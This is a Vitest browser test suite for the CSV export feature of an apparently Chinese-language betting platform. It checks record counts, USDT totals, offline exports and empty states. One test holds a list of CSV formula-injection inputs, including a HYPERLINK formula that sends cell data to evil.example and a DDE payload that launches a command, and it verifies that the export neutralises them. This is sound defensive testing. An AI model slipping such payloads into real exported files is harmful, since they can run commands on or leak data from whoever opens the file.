import { expect, test } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { dayOf, timeOfDay } from '../../contract/day.ts';
import { parseMoney } from '../../contract/money.ts';
import { RECORD_STATUS_LABELS } from '../../contract/player-enums.ts';
import type { CollectionName } from '../../db/record-collection.ts';
import { lastDays, totalOf, type WireRecord } from '../support/wire-records.ts';
import { visit } from './support/app.tsx';
import { expectAccessible } from './support/axe.ts';
import { column, savedCsv } from './support/downloads.ts';
import { line } from './support/line.ts';
import { callsFor, demoPlayer } from './support/players.ts';
import { everyRecord, expectCount, expectFigures, shownRows } from './support/records.ts';

const sheet = page.getByRole('dialog', { name: '导出 CSV' });
const saving = sheet.getByRole('button', { name: '保存到下载' });
const bets = shownRows('投注记录');

async function openExport(): Promise<void> {
  await page.getByRole('button', { name: '导出', exact: true }).click();
  await expect.element(sheet).toBeVisible();
}

const sumOf = (amounts: string[]) =>
  amounts.reduce((sum, amount) => sum + parseMoney(amount === '' ? '0' : amount), 0n);

test('the file has what is filtered, in order, and adds up to the platform’s numbers', async () => {
  const player = await demoPlayer();
  const { date_from, date_to } = lastDays(30);
  const filter = { status: 1, game_type: 5, date_from, date_to };
  const chosen = await everyRecord(player, 'bets', filter);
  expect(chosen.length).toBeGreaterThan(20);
  visit('/betRecords?range=30&status=1&type=5', { player });
  await expectCount(chosen);
  await openExport();
  await expect.element(saving).toBeVisible();
  await expect.element(sheet).not.toHaveTextContent('导出的只是本机已有的');
  const { name, rows } = await savedCsv(saving);
  expect(name).toBe(`投注记录_${date_from}_${date_to}.csv`);
  await expect.element(sheet).toHaveTextContent(`${chosen.length} 条`);
  await expect
    .element(sheet)
    .toHaveTextContent(`投注记录 · ${date_from} 至 ${date_to} · 电子 · ${RECORD_STATUS_LABELS[1]}`);

  expect(column(rows, '订单号')).toHaveLength(chosen.length);
  const numbers = chosen.map(({ order_no }) => String(order_no));
  expect(new Set(column(rows, '订单号'))).toEqual(new Set(numbers));
  const times = chosen.map(({ created_at: at }) => `${dayOf(at)} ${timeOfDay(at)}`);
  expect(column(rows, '投注时间')).toEqual(times.sort().reverse());
  const [stake, win] = [totalOf(chosen, 'stake'), totalOf(chosen, 'win')];
  expect(sumOf(column(rows, '投注额(USDT)'))).toBe(stake);
  expect(sumOf(column(rows, '派彩(USDT)'))).toBe(win);
  expect(sumOf(column(rows, '输赢(USDT)'))).toBe(win - stake);
});

const BOOK_PAGES: [CollectionName, string, string, string][] = [
  ['orders', '/rechargeRecords', '充值记录', '金额(USDT)'],
  ['bills', '/transactionRecords', '账变记录', '变动(USDT)'],
  ['bonuses', '/backRecords', '返水记录', '金额(USDT)'],
];

test.for(BOOK_PAGES)(
  'so has the file of the %s, also with no signal',
  async ([book, path, title, amount]) => {
    const player = await demoPlayer();
    // Of the orders the page shows deposits first.
    const filter = { ...lastDays(30), ...(book === 'orders' ? { kind: 1 } : {}) };
    const chosen = await everyRecord(player, book, filter);
    visit(`${path}?range=30`, { player });
    await expectCount(chosen);
    // What shows the sheet is there from then on.
    await openExport();
    await userEvent.keyboard('{Escape}');
    line.goOffline();
    await openExport();
    const { name, rows } = await savedCsv(saving);
    expect(name).toMatch(new RegExp(`^${title}_.*\\.csv$`));
    expect(rows).toHaveLength(chosen.length + 1);
    expect(sumOf(column(rows, amount))).toBe(totalOf(chosen, 'amount'));
  },
);

test('the file of the report has every day of the range, and adds up to the platform’s numbers', async () => {
  const player = await demoPlayer();
  const said = await callsFor(player)<Record<'stake' | 'win' | 'net', string>>(
    'winLossReport',
    lastDays(30),
  );
  visit('/accountRecords?range=30', { player });
  await expectFigures({ 投注额: parseMoney(said.stake) });
  await openExport();
  await expect.element(sheet).toHaveTextContent('30 条');
  await expect.element(sheet).not.toHaveTextContent('导出的只是本机已有的');
  const { name, rows } = await savedCsv(saving);
  const { date_from, date_to } = lastDays(30);
  expect(name).toBe(`盈亏报表_${date_from}_${date_to}.csv`);
  expect(rows).toHaveLength(31);
  expect(rows[1]?.[0]).toBe(date_to);
  expect(rows[30]?.[0]).toBe(date_from);
  expect(sumOf(column(rows, '投注额(USDT)'))).toBe(parseMoney(said.stake));
  expect(sumOf(column(rows, '派彩(USDT)'))).toBe(parseMoney(said.win));
  expect(sumOf(column(rows, '盈亏(USDT)'))).toBe(parseMoney(said.net));
});

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"领奖")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  '  =1+1',
  '普通;=1+1',
  '龙,"虎"',
  '123456789012345678',
];

test('hostile names stay text, and numbers stay numbers', async () => {
  line.change('betRecords', (result) => ({
    ...result,
    data: (result.data as WireRecord[]).map((row, index) => ({
      ...row,
      game_name: HOSTILE[index % HOSTILE.length],
      win: '0',
      order_no: `${900719925474099 + index}`,
    })),
  }));
  visit('/betRecords?range=30', { player: await demoPlayer() });
  await expect.element(bets.first()).toBeVisible();
  await openExport();
  const { rows } = await savedCsv(saving);
  expect(rows.length).toBeGreaterThan(HOSTILE.length);
  const [headings = [], ...records] = rows;
  for (const record of records) {
    expect(record).toHaveLength(headings.length);
    const numbers = record.filter((cell) => /^-?\d+(\.\d+)?$/.test(cell));
    // Stake, win, and what was lost, below zero.
    expect(numbers.length).toBeGreaterThanOrEqual(2);
    for (const cell of record) {
      if (numbers.includes(cell)) continue;
      expect(cell.normalize('NFKC').trimStart()).not.toMatch(/^[=+\-@]/);
      expect(cell).not.toMatch(/;\s*=/);
    }
  }
  expect(column(rows, '输赢(USDT)').some((cell) => /^-\d/.test(cell))).toBe(true);
  for (const cell of column(rows, '订单号')) expect(cell).toMatch(/^\d{15,}\t$/);
  expect(new Set(column(rows, '游戏'))).toContain('龙,"虎"');
});

test('what is not on the device is not in the file, and the sheet says so', async () => {
  const player = await demoPlayer();
  const all = await everyRecord(player, 'bets', lastDays(30));
  // The look at what is new gets through, what asks for the older history does not.
  const { total, data } = await callsFor(player)<{ total: number; data: never[] }>('betRecords', {
    page: 1,
    size: 20,
  });
  line.fail('betRecords');
  line.answer('betRecords', { total, data }, 1);
  visit('/betRecords?range=30', { player });
  await expect.element(bets.first()).toBeVisible();
  await openExport();
  await expect.element(sheet).toHaveTextContent(/导出的只是本机已有的 \d+ 条/);
  const { rows } = await savedCsv(saving);
  expect(rows.length - 1).toBeLessThan(all.length);
  expect(rows.length).toBeGreaterThan(1);
});

test('where there is nothing, the sheet says so', async () => {
  visit('/betRecords?range=today&status=3&type=2', { player: await demoPlayer() });
  await openExport();
  await expect.element(sheet).toHaveTextContent('没有可导出的记录');
  await expectAccessible('[role=dialog]');
});
